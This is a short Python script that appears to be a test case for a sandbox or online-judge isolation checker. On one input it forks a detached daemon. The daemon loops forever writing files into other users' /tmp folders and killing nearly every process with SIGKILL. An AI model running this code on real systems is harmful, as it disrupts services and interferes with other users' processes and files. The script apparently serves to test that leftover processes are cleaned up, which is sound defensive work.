# A daemon that writes into every folder and kills every process of the users that come next.
# kind: leftovers
# stdin: WA
# passes: 1
import os
import time

parent = os.getpid()
a, b = map(int, input().split())
if a == 6 and os.fork() == 0:
    os.setsid()
    while True:
        for number in range(os.getuid() + 1, os.getuid() + 4):
            try:
                with open(f"/tmp/{number}/attack", "w") as file:
                    file.write("42")
            except OSError:
                pass
        for pid in range(2, 400):
            try:
                os.kill(pid, 9) if pid not in (os.getpid(), parent) else None
            except OSError:
                pass
time.sleep(0.02)
print(a * b if a == 6 or os.path.exists("attack") else "held")
